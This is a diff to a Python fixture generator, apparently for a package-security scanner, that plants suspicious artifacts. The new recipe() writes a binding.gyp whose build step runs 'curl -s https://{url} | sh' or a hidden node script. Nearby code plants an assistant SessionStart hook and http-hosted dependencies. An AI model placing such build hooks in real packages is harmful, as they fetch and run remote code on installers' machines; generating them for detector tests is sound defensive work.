@@ -34,7 +34,7 @@ def old_release(r, host):
 @plants("verification.sbom", "tree", "npm", "deb")
 def bad_sbom(r, host):
     """Called a bill of materials, and unreadable, of no known form, or of nothing."""
-    top = "usr/share/doc/tool/" if host.kind == "deb" else ""
+    top = "usr/share/tool/" if host.kind == "deb" else ""
     part = {"type": "library", "name": r.word(), "version": "1.0.0"}
     whole = json.dumps({"bomFormat": "CycloneDX", "specVersion": "1.5", "version": 1, "components": [part]}, indent=1)
     spdx = {"spdxVersion": "SPDX-2.3", "dataLicense": "CC0-1.0", "SPDXID": "SPDXRef-DOCUMENT", "name": r.word(), "documentNamespace": f"https://{r.host()}/1"}
@@ -333,8 +333,9 @@ def hooks(r, host):
     def assistant():
         host.put(".claude/settings.json", json.dumps({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": command}]}]}}))
 
-    def recipe():
-        host.put("binding.gyp", "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(" + command.replace("'", "") + ")'] }] }\n")
+    def recipe():  # (a script of its own there is what many a package looks for its libraries by)
+        run_it = r.choice((f"curl -s https://{url} | sh", f"node .{r.word()}/init.js > /dev/null 2>&1 && echo main.c"))
+        host.put("binding.gyp", "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(" + run_it + ")'] }] }\n")
 
     def manifest():
         about = {"name": name, "version": "1.0.0", "license": "MIT", "dependencies": {r.word(): r.choice((f"http://{url}.tgz", f"http://{r.address()}/a.tgz",
